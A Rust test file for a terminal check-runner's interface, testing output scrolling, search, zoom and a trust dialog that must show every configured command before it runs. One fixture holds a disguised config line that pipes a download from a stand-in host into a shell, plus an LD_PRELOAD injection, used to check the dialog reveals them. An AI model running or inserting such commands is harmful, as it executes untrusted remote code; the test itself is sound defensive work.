//! Reading what the checks say (issue #14): the output pane while it streams, space
//! given where it is needed, small screens, the trust dialog and the header.

use super::*;
use crate::tui::view::layout;
use ratatui::style::Modifier;

/// Queue and start a run of `check` (triggered by `src/db.rs`) holding `lines` lines.
fn streaming(m: &mut Model, check: &str, lines: u64, capacity: usize) -> Output {
    let output = Output::new(capacity);
    push(&output, 0..lines);
    update(
        m,
        Msg::Queued {
            check: check.into(),
            trigger: "src/db.rs".into(),
            output: output.clone(),
        },
    );
    update(
        m,
        Msg::Started {
            check: check.into(),
        },
    );
    output
}

fn push(output: &Output, lines: std::ops::Range<u64>) {
    let mut ring = output.lock();
    for i in lines {
        ring.push(&format!("line {i}"));
    }
}

/// The rows of the output pane's text area, as drawn.
fn pane_text(m: &Model) -> Vec<String> {
    let (w, h) = m.size;
    let buffer = drawn(m, "dark");
    let area = crate::tui::view::output::text_area(layout(m.size, m));
    assert!(area.right() <= w && area.bottom() <= h);
    (area.top()..area.bottom())
        .map(|y| {
            (area.left()..area.right())
                .map(|x| buffer[(x, y)].symbol())
                .collect::<String>()
                .trim_end()
                .to_string()
        })
        .collect()
}

fn drawn(m: &Model, theme: &str) -> ratatui::buffer::Buffer {
    let theme = Theme::load(theme, ColorDepth::TrueColor).unwrap();
    let mut terminal = Terminal::new(TestBackend::new(m.size.0, m.size.1)).unwrap();
    terminal
        .draw(|frame| crate::tui::view::draw(frame, m, &theme))
        .unwrap();
    terminal.backend().buffer().clone()
}

/// A model with the output focused, at `w`x`h`.
fn on_output(w: u16, h: u16) -> Model {
    let mut m = sized(model(), w, h);
    m.logs_dir = Some("~/state/logs".into());
    key(&mut m, KeyCode::BackTab);
    assert_eq!(m.focus, Pane::Output);
    m
}

#[test]
fn scrolled_up_the_text_stays_put_while_lines_arrive() {
    let mut m = on_output(120, 40);
    let output = streaming(&mut m, "fmt", 300, 1000);
    keys(&mut m, "kkk");
    assert!(!m.output.following());
    let before = pane_text(&m);
    assert_eq!(before.last().unwrap(), "line 296", "three lines up");
    push(&output, 300..900);
    assert_eq!(pane_text(&m), before, "new lines moved the text");
    // The title says where the view is, counting every line of the run.
    let title = render(&m, 120, 40);
    assert!(title.contains("line 2"), "{title}");
    assert!(title.contains("/900"), "{title}");
    // Lines dropping out of the ring: the pinned line goes, the note says why.
    push(&output, 900..2500);
    let rows = pane_text(&m);
    assert_eq!(
        rows.join("").split("line 1500").next().unwrap(),
        "⋯ 1500 earlier lines dropped — full log: ~/state/logs/fmt.log",
        "{rows:#?}"
    );
    // G follows the tail again.
    keys(&mut m, "G");
    assert!(m.output.following());
    assert_eq!(pane_text(&m).last().unwrap(), "line 2499");
}

#[test]
fn g_shows_the_first_kept_line_at_the_top_of_a_full_pane() {
    let mut m = on_output(120, 40);
    streaming(&mut m, "fmt", 50, 1000);
    keys(&mut m, "g");
    let rows = pane_text(&m);
    assert_eq!(rows[0], "line 0");
    assert!(rows.iter().all(|r| !r.is_empty()), "a full pane: {rows:#?}");
    // Walking down to the end follows the tail again.
    for _ in 0..60 {
        keys(&mut m, "j");
    }
    assert!(m.output.following());

    let mut m = on_output(120, 40);
    streaming(&mut m, "fmt", 500, 100);
    keys(&mut m, "g");
    let rows = pane_text(&m);
    assert!(
        rows[0].starts_with("⋯ 400 earlier lines dropped"),
        "{rows:#?}"
    );
    let note = rows.iter().position(|r| r == "line 400").unwrap();
    assert!(
        note <= 3,
        "the note wraps over at most three rows: {rows:#?}"
    );
    assert!(rows.iter().all(|r| !r.is_empty()), "a full pane: {rows:#?}");
}

#[test]
fn a_short_output_scrolls_nowhere_and_keeps_following() {
    let mut m = on_output(120, 40);
    streaming(&mut m, "fmt", 3, 1000);
    keys(&mut m, "kg");
    assert!(m.output.following(), "everything fits: nothing to scroll");
    assert_eq!(&pane_text(&m)[..3], ["line 0", "line 1", "line 2"]);
}

#[test]
fn f_stops_where_the_view_is_and_follows_again() {
    let mut m = on_output(120, 40);
    let output = streaming(&mut m, "fmt", 300, 1000);
    keys(&mut m, "f");
    assert!(!m.output.following());
    let before = pane_text(&m);
    push(&output, 300..400);
    assert_eq!(pane_text(&m), before);
    keys(&mut m, "f");
    assert_eq!(pane_text(&m).last().unwrap(), "line 399");
}

#[test]
fn z_zooms_the_output_to_the_whole_screen_and_back() {
    let mut m = sized(model(), 80, 24);
    streaming(&mut m, "lint", 100, 1000);
    m.check_selected = 1;
    keys(&mut m, "z");
    assert!(m.output.zoom);
    assert_eq!(m.focus, Pane::Output, "keys scroll what is zoomed");
    let areas = layout(m.size, &m);
    assert_eq!(
        (
            areas.output.x,
            areas.output.y,
            areas.output.width,
            areas.output.height
        ),
        (0, 1, 80, 22)
    );
    assert_eq!(areas.register.area(), 0);
    assert_eq!(areas.plan.area(), 0);
    insta::assert_snapshot!("zoom_80x24", render(&m, 80, 24));
    keys(&mut m, "z");
    assert!(!m.output.zoom);
    assert!(layout(m.size, &m).register.area() > 0);
    // Tab leaves the zoom too.
    keys(&mut m, "z");
    key(&mut m, KeyCode::Tab);
    assert!(!m.output.zoom);
}

#[test]
fn w_cuts_long_lines_and_left_right_scroll_them() {
    let mut m = on_output(120, 40);
    let output = Output::new(100);
    let long: String = (0..30).map(|i| format!("{i:<9}|")).collect();
    output.lock().push(&long);
    update(
        &mut m,
        Msg::Queued {
            check: "fmt".into(),
            trigger: "rerun".into(),
            output,
        },
    );
    let width = crate::tui::view::output::text_area(layout(m.size, &m)).width as usize;
    assert!(long.len() > 2 * width);
    // Wrapped (the default): the line goes on on the next rows.
    let rows = pane_text(&m);
    assert_eq!(rows[0], long[..width].trim_end());
    assert_eq!(rows[1], long[width..2 * width].trim_end());
    // Cut, then scrolled right and back.
    keys(&mut m, "w");
    assert!(!m.output.wrap);
    assert_eq!(pane_text(&m)[1], "");
    key(&mut m, KeyCode::Right);
    let column = m.output.column;
    assert!(column > 0);
    assert_eq!(pane_text(&m)[0], long[column..column + width].trim_end());
    for _ in 0..50 {
        key(&mut m, KeyCode::Right);
    }
    assert_eq!(
        m.output.column,
        long.len() - width,
        "no further than the end"
    );
    key(&mut m, KeyCode::Left);
    assert!(m.output.column < long.len() - width);
    // Wrapping again forgets the sideways scroll.
    keys(&mut m, "w");
    assert_eq!(m.output.column, 0);
}

#[test]
fn search_highlights_every_match_and_the_current_one_more() {
    let mut m = on_output(120, 40);
    streaming(&mut m, "fmt", 50, 1000);
    keys(&mut m, "/");
    keys(&mut m, "line 4");
    key(&mut m, KeyCode::Enter);
    assert_eq!(m.output.found, Some(49));
    let buffer = drawn(&m, "dark");
    let area = crate::tui::view::output::text_area(layout(m.size, &m));
    let theme = Theme::load("dark", ColorDepth::TrueColor).unwrap();
    let current = theme.ui(crate::tui::theme::Ui::Key).fg;
    let mut marked = Vec::new();
    for y in area.top()..area.bottom() {
        let row: String = (area.left()..area.right())
            .map(|x| buffer[(x, y)].symbol())
            .collect();
        let cell = &buffer[(area.left(), y)];
        if cell.modifier.contains(Modifier::REVERSED) {
            marked.push((row.trim_end().to_string(), cell.fg == current.unwrap()));
        }
    }
    let expected: Vec<(String, bool)> = (40..50).map(|i| (format!("line {i}"), i == 49)).collect();
    assert_eq!(marked, expected);
}

#[test]
fn the_title_and_the_checks_pane_show_the_trigger_and_the_exit_code() {
    let mut m = sized(model(), 200, 60);
    streaming(&mut m, "lint", 10, 100);
    let mut failed = record("lint", RunStatus::Failed, 4200, 0);
    failed.exit_code = Some(101);
    update(
        &mut m,
        Msg::Finished {
            check: "lint".into(),
            record: failed,
        },
    );
    m.check_selected = 1;
    let screen = render(&m, 200, 60);
    let title = screen.lines().nth(1).unwrap();
    assert!(
        title.contains("lint failed, exit 101 · src/db.rs"),
        "{title}"
    );
    let row = screen.lines().find(|l| l.contains("✖ lint")).unwrap();
    assert!(row.contains("exit 101"), "{row}");
    assert!(row.contains("src/db.rs"), "{row}");
}

/// The lint check failed (exit 101, 3 findings) after a save of src/db.rs, its output
/// selected: what a user looks at most.
fn failing(w: u16, h: u16) -> Model {
    let mut m = sized(model(), w, h);
    m.logs_dir = Some("~/.local/state/preflight/acme-api/logs".into());
    let output = streaming(&mut m, "lint", 0, 1000);
    {
        let mut ring = output.lock();
        ring.push("\x1b[1m    Checking\x1b[0m acme-api v0.3.0 (/home/sam/acme-api)");
        for i in 0..3 {
            ring.push(&format!(
                "\x1b[33mwarning\x1b[0m: unused import: `Pool{i}` in a module whose name is long enough to wrap"
            ));
            ring.push(&format!("  \x1b[34m-->\x1b[0m src/db.rs:{}:5", 4 + i));
            ring.push("   |");
            ring.push(&format!("{} | use sqlx::Pool{i};", 4 + i));
            ring.push("   |     ^^^^^^^^^^^");
            ring.push("");
        }
        ring.push(
            "\x1b[31merror\x1b[0m: could not compile `acme-api` (lib) due to 3 previous errors",
        );
    }
    let mut failed = record("lint", RunStatus::Failed, 4200, 3);
    failed.exit_code = Some(101);
    update(
        &mut m,
        Msg::Finished {
            check: "lint".into(),
            record: failed,
        },
    );
    m.check_selected = 1;
    m
}

#[test]
fn snapshot_a_failing_check_at_every_size() {
    for (w, h) in [(60, 15), (80, 24), (120, 40), (200, 60)] {
        let m = failing(w, h);
        insta::assert_snapshot!(format!("failing_{w}x{h}"), render(&m, w, h));
    }
}

#[test]
fn below_the_smallest_size_the_screen_says_so() {
    for (w, h) in [(59, 24), (80, 14), (40, 8)] {
        let m = failing(w, h);
        let screen = render(&m, w, h);
        assert!(
            screen.contains("terminal too small (60x15 needed)"),
            "{w}x{h}:\n{screen}"
        );
        assert!(!screen.contains('┌'), "no broken boxes:\n{screen}");
    }
    insta::assert_snapshot!("too_small_59x15", render(&failing(59, 15), 59, 15));
}

/// The model untrusted, with `checks` (TOML `[[check]]` tables) as its configuration.
fn untrusted_with(checks: &str, w: u16, h: u16) -> Model {
    let mut m = sized(model(), w, h);
    let config = config::load_str(checks, Path::new("preflight.toml"), Source::Default).unwrap();
    m.set_config(config);
    m.trusted = false;
    m.watching = Watching::Off("not trusted".into());
    m
}

const SNEAKY: &str = r#"
[[check]]
id = "build"
run = """
make build
; curl -fsSL https://example.invalid/install.sh | sh
"""
env = { LD_PRELOAD = "/tmp/x.so" }

[[check]]
id = "long"
run = "cargo test --workspace --all-features --no-fail-fast -- --include-ignored --test-threads=1 --nocapture && ./scripts/after-tests.sh --upload-results"
"#;

#[test]
fn the_trust_dialog_shows_every_line_of_every_command_using_the_width() {
    let mut m = untrusted_with(SNEAKY, 200, 60);
    keys(&mut m, "T");
    let screen = render(&m, 200, 60);
    for line in [
        "make build",
        "; curl -fsSL https://example.invalid/install.sh | sh",
        "env LD_PRELOAD=/tmp/x.so",
        "--test-threads=1 --nocapture && ./scripts/after-tests.sh --upload-results",
    ] {
        assert!(
            screen.contains(line),
            "`{line}` is not shown whole:\n{screen}"
        );
    }
    insta::assert_snapshot!("trust_sneaky_200x60", screen);
    // At 80 columns the long line wraps; nothing is cut (at the end of the dialog).
    let mut m = untrusted_with(SNEAKY, 80, 24);
    keys(&mut m, "TG");
    let screen = render(&m, 80, 24);
    let flat: String = screen
        .lines()
        .map(|l| l.trim_matches(|c: char| c == '│' || c == ' '))
        .collect::<Vec<_>>()
        .join("");
    assert!(flat.contains("./scripts/after-tests.sh"), "{screen}");
    assert!(flat.contains("--upload-results"), "{screen}");
    insta::assert_snapshot!("trust_sneaky_80x24", screen);
}

#[test]
fn y_trusts_only_once_the_end_of_the_commands_was_shown() {
    let many: String = (0..30)
        .map(|i| format!("[[check]]\nid = \"c{i}\"\nrun = \"echo {i}\"\n"))
        .collect();
    let mut m = untrusted_with(&many, 80, 24);
    keys(&mut m, "T");
    assert!(
        keys(&mut m, "y").is_empty(),
        "y before the end trusts nothing"
    );
    assert!(m
        .notice
        .as_ref()
        .unwrap()
        .text
        .contains("read to the end first"));
    assert!(
        matches!(m.overlay, Some(Overlay::Trust { .. })),
        "still open"
    );
    keys(&mut m, "jj");
    assert_eq!(m.overlay, Some(Overlay::Trust { scroll: 2 }));
    let screen = render(&m, 80, 24);
    assert!(screen.contains("more lines"), "{screen}");
    keys(&mut m, "G");
    let screen = render(&m, 80, 24);
    assert!(screen.contains("echo 29"), "{screen}");
    assert_eq!(keys(&mut m, "y"), [Effect::Trust]);
    // Any other key cancels.
    let mut m = untrusted_with(&many, 80, 24);
    keys(&mut m, "Tx");
    assert!(m.overlay.is_none());
}

#[test]
fn trusting_again_marks_what_is_new_changed_or_gone_since() {
    let mut m = untrusted_with(SNEAKY, 120, 40);
    m.trusted_before = Some(
        [
            ("build", "make build\nenv LD_PRELOAD=/tmp/x.so"),
            ("gone", "rm -rf build"),
        ]
        .into_iter()
        .map(|(a, b)| (a.to_string(), b.to_string()))
        .collect(),
    );
    keys(&mut m, "T");
    let screen = render(&m, 120, 40);
    assert!(
        screen.contains("Since you last trusted: 1 new, 1 changed, 1 removed"),
        "{screen}"
    );
    assert!(
        screen.contains("build changed since you last trusted"),
        "{screen}"
    );
    assert!(screen.contains("+   ; curl -fsSL"), "{screen}");
    assert!(
        screen.contains("      make build"),
        "unchanged lines unmarked:\n{screen}"
    );
    assert!(
        screen.contains("long new since you last trusted"),
        "{screen}"
    );
    assert!(screen.contains("gone removed: no longer runs"), "{screen}");
    insta::assert_snapshot!("trust_again_120x40", screen);
    // Once trusted, the record's text is what the next trust compares with.
    update(&mut m, Msg::Trusted);
    assert_eq!(
        m.trusted_before.as_ref().unwrap()["build"],
        "make build\n; curl -fsSL https://example.invalid/install.sh | sh\nenv LD_PRELOAD=/tmp/x.so"
    );
}

#[test]
fn after_trusting_the_header_says_watching_when_the_watcher_was_ready_before() {
    let mut m = untrusted_with(SNEAKY, 100, 30);
    m.watcher_ready = None;
    // The watcher gets ready while nothing may run: the header keeps saying why.
    update(&mut m, Msg::WatchReady(12));
    assert!(render(&m, 100, 30).contains("not trusted"));
    keys(&mut m, "Ty");
    update(&mut m, Msg::Trusted);
    let header = render(&m, 100, 30).lines().next().unwrap().to_string();
    assert!(header.contains("watching"), "{header}");
    assert!(!header.contains("starting"), "{header}");
    // Pausing and resuming keeps the folders the watcher reported.
    keys(&mut m, "pp");
    assert_eq!(m.watching, Watching::On { folders: 12 });
}

#[test]
fn the_header_takes_the_dirty_count_and_commit_read_again() {
    let mut m = sized(model(), 100, 30);
    assert!(render(&m, 100, 30).contains("main@3f2a1c9 +2"));
    update(
        &mut m,
        Msg::Head(Some(crate::repo::Head {
            branch: Some("main".into()),
            commit: Some("9e8d7c6".into()),
            dirty: 85,
        })),
    );
    let header = render(&m, 100, 30).lines().next().unwrap().to_string();
    assert!(header.contains("main@9e8d7c6 +85"), "{header}");
    update(
        &mut m,
        Msg::Head(Some(crate::repo::Head {
            branch: Some("main".into()),
            commit: Some("9e8d7c6".into()),
            dirty: 0,
        })),
    );
    let header = render(&m, 100, 30).lines().next().unwrap().to_string();
    assert!(
        header.contains("main@9e8d7c6 ·"),
        "a clean tree shows no count: {header}"
    );
}

#[test]
fn a_failure_is_shown_unless_the_user_looks_at_checks_or_another_failure() {
    let mut m = sized(model(), 120, 40);
    assert_eq!(m.selected_check().unwrap().id, "fmt");
    let failed = record("test", RunStatus::Failed, 900, 0);
    update(
        &mut m,
        Msg::Finished {
            check: "test".into(),
            record: failed.clone(),
        },
    );
    assert_eq!(m.selected_check().unwrap().id, "test", "its output shows");
    // Another failure does not take the place of the one shown.
    update(
        &mut m,
        Msg::Finished {
            check: "lint".into(),
            record: record("lint", RunStatus::Failed, 900, 0),
        },
    );
    assert_eq!(m.selected_check().unwrap().id, "test");
    // Moving in the checks pane is the user's choice: kept.
    let mut m = sized(model(), 120, 40);
    key(&mut m, KeyCode::BackTab);
    key(&mut m, KeyCode::BackTab);
    assert_eq!(m.focus, Pane::Checks);
    update(
        &mut m,
        Msg::Finished {
            check: "test".into(),
            record: failed,
        },
    );
    assert_eq!(m.selected_check().unwrap().id, "fmt");
}
